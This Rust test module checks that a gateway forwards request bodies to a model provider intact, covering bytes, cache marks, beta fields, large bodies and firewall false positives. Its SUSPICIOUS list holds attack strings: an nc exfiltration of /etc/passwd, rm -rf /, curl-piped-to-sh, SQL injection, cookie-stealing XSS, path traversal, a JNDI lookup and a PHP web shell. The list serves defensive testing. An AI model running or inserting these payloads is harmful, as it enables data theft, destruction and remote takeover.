//! Checks of the request body: byte for byte where possible, and for every field that the client relies on.

use super::check::{BlackBox, ContractCheck};
use super::contract_run::{ContractRun, Exchange, is_the_providers, message, refusal};
use super::echo::EchoScript;
use super::finding::{ContractFinding, ContractOutcome, ContractVerdict};
use super::requests::{UNKNOWN, for_free, plain_body, rich_body};
use serde_json::{Value, json};

const NO_BETAS: &str = "CLAUDE_CODE_DISABLE_EXPERIMENTAL_BETAS=1";
/// As large as in a long session.
const LARGE: usize = 200 * 1000;

pub(super) const CHECKS: &[ContractCheck] = &[
    ContractCheck {
        id: "body-bytes",
        group: "body",
        title: "the body reaches the provider byte for byte",
        otherwise: "a re-serialized body may lose fields that the gateway does not know, and misses caches keyed on the body",
        black_box: BlackBox::No,
        run: bytes,
    },
    ContractCheck {
        id: "system-array",
        group: "body",
        title: "the system array keeps its blocks, their order and the attribution block first",
        otherwise: "the attribution block becomes part of the prompt and of its cache key",
        black_box: BlackBox::No,
        run: |bench| Ok(same(bench, "/system", "it")?.around("CLAUDE_CODE_ATTRIBUTION_HEADER=0")),
    },
    ContractCheck {
        id: "cache-control",
        group: "body",
        title: "cache_control stays on system blocks, tools and messages",
        otherwise: "nothing is read from the prompt cache, and every turn costs the full price",
        black_box: BlackBox::No,
        run: cache_control,
    },
    ContractCheck {
        id: "thinking",
        group: "body",
        title: "thinking: {\"type\": \"adaptive\"} reaches the provider",
        otherwise: "a 400 about thinking, or no thinking",
        black_box: BlackBox::No,
        run: |bench| Ok(same(bench, "/thinking", "it")?.around("CLAUDE_CODE_DISABLE_ADAPTIVE_THINKING=1")),
    },
    ContractCheck {
        id: "beta-fields",
        group: "body",
        title: "context_management, output_config and tool fields reach the provider with their betas",
        otherwise: "the features are lost, or a 400 names a field whose beta header arrived without it",
        black_box: BlackBox::No,
        run: beta_fields,
    },
    ContractCheck {
        id: "unknown-fields",
        group: "body",
        title: "unknown fields reach the provider",
        otherwise: "a new feature breaks with the release that adds its field",
        black_box: BlackBox::Free,
        run: unknown,
    },
    ContractCheck {
        id: "large-body",
        group: "body",
        title: "a body of 200 kB passes",
        otherwise: "long sessions fail, with 413 or no response",
        black_box: BlackBox::Free,
        run: large,
    },
    ContractCheck {
        id: "waf",
        group: "body",
        title: "bodies that contain shell, SQL, HTML and paths pass",
        otherwise: "prompts that contain code fail with 403, seemingly at random",
        black_box: BlackBox::Free,
        run: waf,
    },
];

fn bytes(bench: &ContractRun) -> ContractVerdict {
    let sent = plain_body(bench.model());
    let Exchange { tried, arrived, .. } = bench.through_echo(EchoScript::Whole, bench.ask(&sent));
    let Some(request) = arrived.first() else {
        return Err(ContractFinding::broken(refusal(bench.heard(&tried)?)));
    };
    if let Some(encoding) = request.header("content-encoding") {
        return Ok(ContractFinding::degraded(format!("it arrived compressed: {encoding}")));
    }
    if request.body == sent.as_bytes() {
        return Ok(ContractFinding::works(format!("{} bytes", sent.len())));
    }
    let (sent, got) = (serde_json::from_str::<Value>(&sent).unwrap_or_default(), request.json());
    let how = match sent == got {
        true => "same values, different bytes".to_owned(),
        false => difference(&sent, &got),
    };
    Ok(ContractFinding::degraded(format!("re-serialized: {how}")))
}

/// The first difference between two objects, in words.
fn difference(sent: &Value, got: &Value) -> String {
    let (Some(sent), Some(got)) = (sent.as_object(), got.as_object()) else {
        return "no object arrived".to_owned();
    };
    let names = |from: &serde_json::Map<String, Value>, other: &serde_json::Map<String, Value>| {
        let names: Vec<_> = from.keys().filter(|key| !other.contains_key(*key)).cloned().collect();
        names.join(", ")
    };
    let (lost, added) = (names(sent, got), names(got, sent));
    let changed: Vec<_> =
        sent.iter().filter(|(k, v)| got.get(*k).is_some_and(|g| g != *v)).map(|(k, _)| k.as_str()).collect();
    let parts = [("without ", lost), ("with ", added), ("changed ", changed.join(", "))];
    let parts =
        parts.iter().filter(|(_, names)| !names.is_empty()).map(|(how, names)| format!("{how}{names}"));
    parts.collect::<Vec<_>>().join("; ")
}

/// The rich body as it was sent and as it arrived.
fn rich(bench: &ContractRun) -> Result<(Value, Value), ContractFinding> {
    let got = bench.arrived()?.json();
    Ok((rich_body(bench.model()), got))
}

/// A part of the rich body, called `name` in the evidence, must arrive unchanged.
fn same(bench: &ContractRun, pointer: &str, name: &str) -> ContractVerdict {
    let (sent, got) = rich(bench)?;
    let Some(got) = got.pointer(pointer) else {
        return Ok(ContractFinding::broken(format!("{name} did not arrive")));
    };
    let shown: String = got.to_string().chars().take(160).collect();
    let is_same = Some(got) == sent.pointer(pointer);
    Ok(ContractFinding::works_or_broken(is_same, "unchanged", format!("{name} arrived as {shown}")))
}

/// The places where something else arrived, or nothing.
fn lost(places: &[&str], sent: &Value, got: &Value) -> ContractFinding {
    let lost: Vec<_> =
        places.iter().filter(|place| got.pointer(place) != sent.pointer(place)).copied().collect();
    let evidence = format!("{} fields", places.len());
    ContractFinding::works_or_broken(
        lost.is_empty(),
        evidence,
        format!("lost or changed: {}", lost.join(", ")),
    )
}

fn cache_control(bench: &ContractRun) -> ContractVerdict {
    let places = ["/system/1/cache_control", "/tools/0/cache_control", "/messages/0/content/1/cache_control"];
    // regardless of position: another check covers the order
    let marks = |value: &Value| {
        let mut marks = Vec::new();
        collect(value, &mut marks);
        marks.sort();
        marks
    };
    let (sent, got) = rich(bench)?;
    let wanted = marks(&sent);
    Ok(match wanted == marks(&got) {
        true => ContractFinding::works(format!("{} marks", wanted.len())),
        false => lost(&places, &sent, &got),
    })
}

fn collect(value: &Value, into: &mut Vec<String>) {
    match value {
        Value::Object(map) => {
            into.extend(map.get("cache_control").map(Value::to_string));
            map.values().for_each(|value| collect(value, into));
        }
        Value::Array(list) => list.iter().for_each(|value| collect(value, into)),
        _ => {}
    }
}

fn beta_fields(bench: &ContractRun) -> ContractVerdict {
    let (sent, got) = rich(bench)?;
    let places = ["/context_management", "/output_config", "/tools/0/defer_loading"];
    Ok(lost(&places, &sent, &got).around(NO_BETAS))
}

fn unknown(bench: &ContractRun) -> ContractVerdict {
    if bench.echo().is_some() {
        return same(bench, &format!("/{UNKNOWN}"), UNKNOWN);
    }
    let mut body = for_free("hi");
    body[UNKNOWN] = json!(true);
    let said = bench.refused(&bench.send(&bench.ask(body)))?;
    let fault = format!("the provider did not reject {UNKNOWN}, so it did not arrive: {said}");
    Ok(ContractFinding::works_or_broken(said.contains(UNKNOWN), format!("the provider: {said}"), fault))
}

/// A body that must pass: it reaches the echo unchanged, or the provider refuses its model.
fn passes(bench: &ContractRun, text: &str) -> ContractVerdict {
    let mut body = for_free(text);
    if bench.echo().is_some() {
        body["model"] = json!(bench.model());
    }
    let Exchange { tried, arrived, .. } = bench.through_echo(EchoScript::Whole, bench.ask(body));
    let heard = bench.heard(&tried)?;
    if bench.echo().is_none() {
        let passed = is_the_providers(heard) && heard.status() != 413;
        return Ok(ContractFinding::works_or_broken(passed, message(heard), refusal(heard)));
    }
    let request = arrived.first().ok_or_else(|| ContractFinding::broken(refusal(heard)))?;
    let kept = request.json().to_string().contains(json!(text).to_string().trim_matches('"'));
    let evidence = format!("{} bytes", request.body.len());
    Ok(ContractFinding::works_or_broken(kept, evidence, "it arrived with changed text"))
}

fn large(bench: &ContractRun) -> ContractVerdict {
    passes(bench, &"0123456789 lorem ipsum ".repeat(LARGE / 23))
}

/// Text that firewalls mistake for attacks and that prompts often contain.
const SUSPICIOUS: &[(&str, &str)] = &[
    ("shell", "; cat /etc/passwd | nc 192.0.2.1 4444 && rm -rf / $(curl -s http://192.0.2.1/x.sh | sh)"),
    ("SQL", "' OR '1'='1'; DROP TABLE users; -- UNION SELECT password FROM accounts"),
    ("HTML", "<script>alert(document.cookie)</script><img src=x onerror=alert(1)>"),
    ("paths", "../../../../etc/shadow %2e%2e%2f..%5c c:\\windows\\win.ini"),
    ("templates", "${jndi:ldap://192.0.2.1/a} {{7*7}} <?php system($_GET['c']); ?>"),
];

fn waf(bench: &ContractRun) -> ContractVerdict {
    for (what, text) in SUSPICIOUS {
        let finding = passes(bench, text).unwrap_or_else(|finding| finding);
        if finding.outcome != ContractOutcome::Works {
            return Err(ContractFinding::broken(format!("{what}: {}", finding.evidence)));
        }
    }
    let kinds: Vec<_> = SUSPICIOUS.iter().map(|(what, _)| *what).collect();
    Ok(ContractFinding::works(kinds.join(", ")))
}
